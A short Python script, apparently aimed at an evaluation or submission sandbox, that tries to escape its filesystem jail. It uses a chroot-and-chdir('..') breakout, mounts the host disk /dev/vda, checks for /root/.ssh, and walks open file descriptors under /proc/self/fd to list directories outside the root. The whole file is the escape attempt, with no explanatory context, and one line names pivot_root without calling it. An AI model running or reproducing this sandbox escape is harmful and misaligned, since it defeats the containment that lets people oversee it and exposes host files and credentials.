"""Climbs out of its root by chroot, mounts and open directories."""

import ctypes
import os

libc = ctypes.CDLL(None)
os.makedirs("x", exist_ok=True)
libc.chroot(b"x")
for _ in range(50):
    os.chdir("..")
libc.chroot(b".")
libc.mount(b"/dev/vda", b"/submission", b"ext4", 0, b"")
libc.pivot_root
print(os.listdir("/"), os.path.exists("/root/.ssh"))
for number in range(3, 100):
    try:
        print(os.listdir(f"/proc/self/fd/{number}/../../.."))
    except OSError:
        pass
